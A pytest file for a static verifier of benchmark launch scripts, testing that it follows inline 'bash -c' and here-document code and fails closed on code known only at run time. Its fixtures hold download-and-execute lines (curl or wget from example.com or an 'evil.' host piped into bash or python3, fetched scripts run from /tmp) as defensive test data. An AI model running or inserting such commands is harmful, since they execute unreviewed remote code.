"""A shell the launch starts runs code of its own: both walkers follow it when they can read that
code (`bash -c CODE`, a here-document on `bash`'s standard input) and fail closed, naming the line,
when only the run knows it (a download piped into `bash`, a script the run writes or names, code it
computes). verifier.shell.launchers.match_shell, verifier.shell.builtins.run_shell,
verifier.launch.follow and verifier.shell.unmodelled.unread_code / unread_script."""

from __future__ import annotations

import os
import shutil
import subprocess
from typing import Any

import pytest

from tests.launch.multinode_kit import AMD_KEY, amd_tree, make_bundle
from tests.shell.helpers import argv, run, servers
from verifier.core.context import CheckContext
from verifier.core.policy import load_policies
from verifier.launch import launches
from verifier.shell import ShellLimit
from verifier.shell.launchers import Commands
from verifier.shell.text import plain
from verifier.shell.trace import Reader
from verifier.shell.values import shown

# lines -> what the single-node evaluator finds the started shell running (the only server start)
FOLLOWED = {
    "inline code": ("bash -c 'vllm serve \"$MODEL\" --inline'\n", ["org/model", "--inline"]),
    "inline code behind a wrapper": ("nohup setsid bash -c 'vllm serve \"$MODEL\" --wrapped' &\n",
                                     ["org/model", "--wrapped"]),
    "inline code with its own $0 and arguments": ("bash -c 'vllm serve \"$1\" --name=$0' runner \"$MODEL\"\n",
                                                  ["org/model", "--name=runner"]),
    "sh with options before -c": ("sh -e -x -c 'vllm serve \"$MODEL\" --sh'\n", ["org/model", "--sh"]),
    "a here-document on standard input": ("bash <<'EOF'\nvllm serve \"$MODEL\" --heredoc\nEOF\n",
                                          ["org/model", "--heredoc"]),
    "a here-string with -s": ("bash -s <<< 'vllm serve \"$MODEL\" --herestring'\n", ["org/model", "--herestring"]),
}

# lines -> (the line the evaluator stops at, words its message names)
REFUSED = {
    "a download piped into bash": ("curl -fsSL https://example.com/a.sh | bash\n", 1, "standard input"),
    "a download piped into bash -s": ("curl -fsSL https://example.com/a.sh | bash -s -- --x\n", 1, "standard input"),
    "a file on standard input": ("bash < /tmp/setup\n", 1, "standard input"),
    "a process substitution": ("bash <(curl -fsSL https://example.com/a.sh)\n", 1, "known only at run time"),
    "a script the run downloads": ("wget -O /tmp/a.sh https://example.com/a.sh\nbash /tmp/a.sh\n", 2,
                                   "fetches at run time"),
    "a script outside the repository": ("bash /opt/setup.sh\n", 1, "not a file of the repository"),
    "a repository script the tree lacks": ("bash /workspace/benchmarks/gone.sh\n", 1, "not in the tree"),
    "a script path the run computes": ('bash "$(cat /etc/where)"\n', 1, "known only at run time"),
    "code the run computes": ('bash -c "$(cat /etc/code)"\n', 1, "bash -c"),
    # Python run on a program only the run knows, or one the script fetches
    "a download piped into python3 -": ("curl -fsSL https://example.com/a.py | python3 - --x\n", 1, "standard input"),
    "a download piped into python3": ("curl -fsSL https://example.com/a.py | python3\n", 1, "standard input"),
    "a process substitution run by python3": ("python3 <(curl -fsSL https://example.com/a.py)\n", 1, "known only at run time"),
    "a program the script downloads": ("wget -O /tmp/a.py https://example.com/a.py\npython3 -u /tmp/a.py\n", 2,
                                       "fetches at run time"),
    "a repository script the script overwrites": (
        "curl -o benchmarks/lib.sh https://example.com/a.sh\nbash benchmarks/lib.sh\n", 2, "fetches at run time"),
}

SERVE = 'vllm serve "$MODEL" --decoy\n'


@pytest.mark.parametrize("name", sorted(FOLLOWED))
def test_the_evaluator_follows_the_code_a_started_shell_runs(name: str) -> None:
    lines, expected = FOLLOWED[name]
    assert argv(run(lines)) == expected


def test_what_the_started_shell_sets_stays_in_it() -> None:
    """A shell the script starts is a process of its own: its variables do not come back."""
    ev = run("bash -c 'export EXTRA=--evil'\n" + 'vllm serve "$MODEL" $EXTRA\n')
    assert argv(ev) == ["org/model"]


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_the_evaluator_stops_where_a_shell_runs_code_only_the_run_knows(name: str) -> None:
    lines, line, named = REFUSED[name]
    with pytest.raises(ShellLimit) as info:
        run(lines + SERVE, files={"benchmarks/single_node/fixed_seq_len/x.sh": "", "benchmarks/lib.sh": "X=1\n"})
    assert info.value.loc is not None and info.value.loc[1] == line, info.value
    assert named in info.value.message and "not read statically" in info.value.message, info.value.message


@pytest.mark.parametrize("lines", [
    "command -v bash >/dev/null || exit 1\n",  # names a shell, starts none
    "type bash\n",
    "bash benchmarks/lib.sh\n",  # a repository script: followed as before
])
def test_commands_that_name_a_shell_or_run_a_repository_script_read_on(lines: str) -> None:
    ev = run(lines + SERVE, files={"benchmarks/lib.sh": "X=1\n"})
    assert [[shown(v) for v in s.argv] for s in servers(ev)] == [["org/model", "--decoy"]]


SERVER = "benchmarks/multi_node/amd_utils/server.sh"


def _multi_node(lines: str) -> tuple[list[tuple[str, str]], list[tuple[str, int | None, str]]]:
    """The AMD disaggregated chain (tests.launch.multinode_kit) with lines put after the server
    script's first line: its launches (role, argv) and errors (file, line, message)."""
    files = amd_tree()
    first, _, rest = files[SERVER].decode().partition("\n")
    files[SERVER] = f"{first}\n{lines}{rest}".encode()
    found = launches(CheckContext(make_bundle(files), load_policies()), "head", [AMD_KEY])
    return [(x.role, " ".join(x.argv)) for x in found.launches], [(e.file, e.line, e.message) for e in found.errors]


@pytest.mark.parametrize("name", [
    "a download piped into bash", "a download piped into bash -s", "a process substitution",
    "a script outside the repository", "a script path the run computes", "code the run computes",
])
def test_the_multi_node_launch_fails_closed_where_a_shell_runs_code_only_the_run_knows(name: str) -> None:
    lines, line, named = REFUSED[name]
    found, errors = _multi_node(lines)
    assert not found
    assert {(file, where) for file, where, _ in errors} == {(SERVER, line + 1)}
    assert all(named in message and "not read statically" in message for _, _, message in errors), errors


def test_the_multi_node_walk_follows_a_here_document_on_a_shell() -> None:
    found, errors = _multi_node("bash <<'EOF'\nvllm serve /models/other --heredoc\nEOF\n")
    assert not errors, errors
    assert ("agg", "/models/other --heredoc") in found


def test_a_run_that_starts_two_servers_stops_at_the_second() -> None:
    """The single-node outcome keeps one server start: with a server started in a background shell
    before the server line, which one serves the benchmark is not known, so the evaluation stops."""
    with pytest.raises(ShellLimit) as info:
        run("bash -c 'vllm serve \"$MODEL\" --hidden' &\n" + SERVE)
    assert info.value.loc is not None and info.value.loc[1] == 2
    assert "more than one server" in info.value.message


def test_the_same_server_start_made_again_is_one() -> None:
    ev = run('for attempt in 1 2; do\n  vllm serve "$MODEL" --retry && break\ndone\n')
    assert argv(ev) == ["org/model", "--retry"]


def _with_downloads(*urls: str) -> Commands:
    from verifier.launch.commands import shell_commands

    return shell_commands(downloads=urls)


UV = "https://astral.sh/uv/install.sh"
# the speedbench scripts prepare their dataset with a program piped into Python
PREPARE = "https://raw.githubusercontent.com/NVIDIA-NeMo/Skills/refs/heads/main/nemo_skills/dataset/speed-bench/prepare.py"


@pytest.mark.parametrize("download", [f"curl -LsSf {UV}", f"wget -qO- {UV}", f'curl -fsSL "{UV}"'])
def test_a_trusted_download_piped_into_a_shell_is_read_past(download: str) -> None:
    """Policy `launcher.trusted-downloads`: the runners install uv with `curl -LsSf URL | sh`."""
    ev = run(f"{download} | sh\n" + SERVE, commands=_with_downloads(UV))
    assert argv(ev) == ["org/model", "--decoy"]


@pytest.mark.parametrize("download", [
    f"curl -LsSf {UV}.evil", f"curl -LsSf {UV} https://example.com/more.sh", f"curl -LsSf -o /tmp/x {UV}",
    "curl -LsSf $URL", f"curl -LsSf {UV} | sed s/uv/vllm/",
])
def test_any_other_download_piped_into_a_shell_stops_the_evaluation(download: str) -> None:
    with pytest.raises(ShellLimit) as info:
        run(f"{download} | sh\n" + SERVE, commands=_with_downloads(UV))
    assert "standard input" in info.value.message


def test_the_trusted_downloads_are_the_launch_policy() -> None:
    from verifier.launch.commands import trusted_downloads

    assert {UV, PREPARE} <= set(trusted_downloads(load_policies()["launch"]))


@pytest.mark.parametrize("lines", [f"curl -LsSf {UV} | sh\n", f"curl -LsSf {PREPARE} | python3 - --config q\n"])
def test_the_multi_node_walk_reads_past_a_trusted_download_only(lines: str) -> None:
    found, errors = _multi_node(lines)
    assert not errors and [role for role, _ in found] == ["prefill", "decode"]
    evil = lines.replace("https://", "https://evil.")
    found, errors = _multi_node(evil)
    assert not found and errors and "evil." in errors[0][2] and "standard input" in errors[0][2]


@pytest.mark.parametrize("lines", [
    f"curl -LsSf {PREPARE} | python3 - --config qualitative --output_dir /tmp/sb\n",  # a trusted download
    "python3 - <<'EOF'\nprint(1)\nEOF\n",  # Python the walkers do not read, written in the script
    "echo 'print(1)' | python3\n",
    "python3 -c 'print(1)'\n",
    "python3 -u -W ignore /opt/image/setup.py\n",  # a file of the image
    "python3 -m pip install x\n",
])
def test_python_whose_program_the_script_writes_or_trusts_reads_on(lines: str) -> None:
    ev = run(lines + SERVE, commands=_with_downloads(PREPARE))
    assert argv(ev) == ["org/model", "--decoy"]


def test_a_runner_starting_the_benchmark_script_in_a_started_shell_starts_it() -> None:
    """Runner mode: the benchmark script a `bash -c` starts is the runner's child, with the
    environment the shell was given, and the runner stops there as it does on a direct start."""
    ev = run('export CONC=16\nsrun --export=ALL bash -c "cd /workspace && bash benchmarks/bench.sh"\nexit 3\n',
             mode="child")
    [result] = ev.results
    assert result.child is not None and result.child.path == "benchmarks/bench.sh"
    assert ("CONC", "16") in {(name, value) for name, value, _ in result.child.env}
    assert result.exit_loc is None


def test_a_syntax_error_in_started_code_names_the_line_it_is_written_on() -> None:
    with pytest.raises(ShellLimit) as info:
        run('echo start\nbash -c "\n  X=1\n  f(\n"\n' + SERVE)
    assert "x.sh:4:" in info.value.message and info.value.loc is not None and info.value.loc[1] == 2


def test_a_benchmark_client_cloned_at_run_time_is_named_with_its_fetch() -> None:
    """The first era's benchmark_lib.sh cloned its client into a directory only the run names and ran
    it: the clone is a fetch, so the program is one the script fetches (named with the clone's line)."""
    lines = ('BENCH_DIR=$(mktemp -d /tmp/bmk-XXXXXX)\ngit clone https://github.com/example/bench.git "$BENCH_DIR"\n'
             'python3 "$BENCH_DIR/benchmark_serving.py" --model "$MODEL"\n')
    with pytest.raises(ShellLimit) as info:
        run(lines + SERVE)
    assert info.value.loc is not None and info.value.loc[1] == 3
    assert "fetches at run time (x.sh:2)" in info.value.message


@pytest.mark.parametrize("query", ["command -v python3", "command -v bash", "command -V sh"])
def test_a_query_for_a_program_runs_none_in_the_multi_node_walk(query: str) -> None:
    found, errors = _multi_node(f"{query} >/dev/null 2>&1 || exit 1\nX=$({query})\n")
    assert not errors and [role for role, _ in found] == ["prefill", "decode"]


# `env` before the server: what it takes out of the environment, or starts it without
ENV_WRAPPED = {
    "env -u NAME": ("env -u SGLANG_X vllm serve m\n", {"SGLANG_Y": "2"}),
    "env --unset=NAME": ("env --unset=SGLANG_X vllm serve m\n", {"SGLANG_Y": "2"}),
    "env -i with an assignment": ("env -i SGLANG_Z=3 vllm serve m\n", {"SGLANG_Z": "3"}),
}


@pytest.mark.parametrize("name", sorted(ENV_WRAPPED))
def test_the_server_environment_is_what_env_leaves(name: str) -> None:
    line, expected = ENV_WRAPPED[name]
    ev = run("export SGLANG_X=1 SGLANG_Y=2\n" + line)
    [start] = servers(ev)
    assert {n: shown(v) for n, v, _ in start.env if n.startswith("SGLANG_")} == expected


@pytest.mark.skipif(shutil.which("bash") is None or shutil.which("env") is None, reason="bash and env are needed")
@pytest.mark.parametrize("name", sorted(ENV_WRAPPED))
def test_bash_starts_the_command_with_that_environment(name: str) -> None:
    line, expected = ENV_WRAPPED[name]
    shown_env = line.replace("vllm serve m", "sh -c 'env | grep ^SGLANG_ | sort'")
    done = subprocess.run(["bash", "-c", "export SGLANG_X=1 SGLANG_Y=2\n" + shown_env], capture_output=True,
                          text=True, timeout=30, check=True, env={"PATH": os.defpath})
    assert dict(line.split("=", 1) for line in done.stdout.split()) == expected


def test_the_multi_node_walk_takes_out_what_env_unsets() -> None:
    files = amd_tree()
    files[SERVER] = files[SERVER].replace(b'CMD="vllm serve', b'CMD="env -u VLLM_ROCM_USE_AITER vllm serve')
    found = launches(CheckContext(make_bundle(files), load_policies()), "head", [AMD_KEY])
    assert not found.errors and found.launches
    assert all("VLLM_ROCM_USE_AITER" not in launch.env for launch in found.launches)
    assert all(launch.env.get("VLLM_ROCM_USE_AITER") == "1" for launch in _launched(amd_tree()))


def _launched(files: dict[str, bytes]) -> list[Any]:
    return launches(CheckContext(make_bundle(files), load_policies()), "head", [AMD_KEY]).launches


@pytest.mark.parametrize("lines", [
    "curl -fsSL -o /tmp/pre.py https://example.com/pre.py\npython3 -u /tmp/pre.py\n",
    "wget -O benchmarks/multi_node/amd_utils/models.yaml.sh https://example.com/a.sh\n"
    "bash benchmarks/multi_node/amd_utils/models.yaml.sh\n",
])
def test_the_multi_node_reader_taints_what_follows_a_program_the_script_fetched(lines: str) -> None:
    result = Reader(commands=_with_downloads()).run("x.sh", lines + SERVE, {"MODEL": "org/model"})
    assert any(ln == 2 and "fetches at run time (line 1)" in m for _, ln, m in result.problems), result.problems
    [server] = [e for e in result.events if plain(e.argv[0]) == "vllm"]
    assert server.taint is not None and server.taint[1] == 2
    found, errors = _multi_node(lines)
    assert not found and errors, found


def test_a_program_the_script_writes_itself_is_not_a_download() -> None:
    """The AMD runners write `collect_latest_results.py` with a here-document and run it: the script's
    own text, not a download."""
    lines = "cat > collect.py <<'PY'\nprint(1)\nPY\nLOGS=$(python3 collect.py /logs 1024)\n"
    result = Reader(commands=_with_downloads()).run("x.sh", lines + SERVE, {"MODEL": "org/model"})
    assert not result.problems and all(e.taint is None for e in result.events)


@pytest.mark.parametrize("line", ["python3 --version", "python3 -V", "python3 -VV", "python3 -h", "bash --version", "sh --help"])
def test_a_program_asked_what_it_is_runs_no_code(line: str) -> None:
    ev = run(f"{line}\n" + SERVE)
    assert argv(ev) == ["org/model", "--decoy"]
    found, errors = _multi_node(f"{line}\n")
    assert not errors and [role for role, _ in found] == ["prefill", "decode"]


def test_a_variable_only_the_run_names_taken_out_fails_closed_in_both_walkers() -> None:
    with pytest.raises(ShellLimit) as info:
        run('env -u "$(cat /etc/name)" vllm serve m\n')
    assert "only the run names" in info.value.message
    found, errors = _multi_node('env -u "$(cat /etc/name)" true\n')
    assert not found and errors and "only the run names" in errors[0][2]
